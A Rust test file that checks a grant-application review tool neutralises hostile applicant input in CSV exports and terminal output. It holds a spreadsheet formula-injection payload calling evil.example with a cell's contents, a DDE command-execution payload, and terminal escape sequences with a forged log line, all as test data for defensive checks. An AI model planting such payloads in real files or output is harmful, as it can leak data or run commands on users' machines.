//! Content and files written by outsiders (applicants, whoever sends a
//! folder): neutralised in what Jury writes and prints, bounded when read.

use std::path::{Path, PathBuf};
use std::process::Command;

fn jury() -> Command {
    Command::new(env!("CARGO_BIN_EXE_jury"))
}

fn sample() -> PathBuf {
    PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("samples/caf06-pdnp-2025")
}

/// A copy of the sample call folder (appel.json, dossiers/, lettres/).
fn copy_sample(to: &Path) -> PathBuf {
    let dest = to.join("appel");
    for sub in ["", "dossiers", "lettres", "pieces"] {
        let from = sample().join(sub);
        std::fs::create_dir_all(dest.join(sub)).expect("mkdir");
        for e in std::fs::read_dir(&from).expect("list") {
            let e = e.expect("entry");
            if e.file_type().expect("type").is_file() {
                std::fs::copy(e.path(), dest.join(sub).join(e.file_name())).expect("copy");
            }
        }
    }
    dest
}

fn set_field(file: &Path, pointer: &[&str], value: serde_json::Value) {
    let mut v: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(file).expect("read")).expect("json");
    let mut at = &mut v;
    for k in pointer {
        at = at.get_mut(*k).expect("field");
    }
    *at = value;
    std::fs::write(file, serde_json::to_vec_pretty(&v).expect("json")).expect("write");
}

fn imported_db(call: &Path, dir: &Path) -> PathBuf {
    let db = dir.join("j.sqlite");
    let folder = jury::io::import::read_folder(call).expect("folder");
    let mut store = jury::store::Store::open(&db).expect("open");
    folder.import_into(&mut store).expect("import");
    db
}

#[test]
fn csv_export_neutralises_cells_a_spreadsheet_would_run() {
    let dir = tempfile::tempdir().expect("tmp");
    let call = copy_sample(dir.path());
    let file = call.join("dossiers/PDNP06-2025-001.json");
    set_field(
        &file,
        &["structure", "name"],
        "=HYPERLINK(\"http://evil.example/\"&A1;\"Cliquez\")".into(),
    );
    set_field(
        &file,
        &["structure", "address", "city"],
        "+cmd|' /C calc'!A0".into(),
    );
    let db = imported_db(&call, dir.path());
    let out = dir.path().join("export.csv");
    let status = jury()
        .args(["export", "csv", "--db"])
        .arg(&db)
        .arg("--out")
        .arg(&out)
        .output()
        .expect("run");
    assert!(status.status.success(), "{status:?}");
    let bytes = std::fs::read(&out).expect("csv");
    let mut r = csv::ReaderBuilder::new()
        .delimiter(b';')
        .from_reader(&bytes[3..]);
    let mut seen = false;
    for rec in r.records() {
        let rec = rec.expect("record");
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "live cell: {cell}"
            );
        }
        if &rec[0] == "PDNP06-2025-001" {
            seen = true;
            assert_eq!(
                &rec[1],
                "'=HYPERLINK(\"http://evil.example/\"&A1;\"Cliquez\")"
            );
            assert_eq!(&rec[2], "'+cmd|' /C calc'!A0");
        }
    }
    assert!(seen);
}

#[test]
fn check_shows_control_characters_instead_of_running_them() {
    let dir = tempfile::tempdir().expect("tmp");
    let call = copy_sample(dir.path());
    let file = call.join("dossiers/PDNP06-2025-001.json");
    set_field(
        &file,
        &["structure", "email"],
        "x\u{1b}[2J\u{7}\u{1b}]0;titre\u{7}\nx.json:1:1: 0 erreur\r".into(),
    );
    let out = jury().arg("check").arg(&call).output().expect("run");
    let text = String::from_utf8(out.stdout).expect("utf8");
    assert!(
        !text.chars().any(|c| c.is_control() && c != '\n'),
        "{text:?}"
    );
    assert!(!text.lines().any(|l| l.starts_with("x.json:")), "{text}");
    assert!(text.contains("\\u{1b}[2J"), "{text}");
}
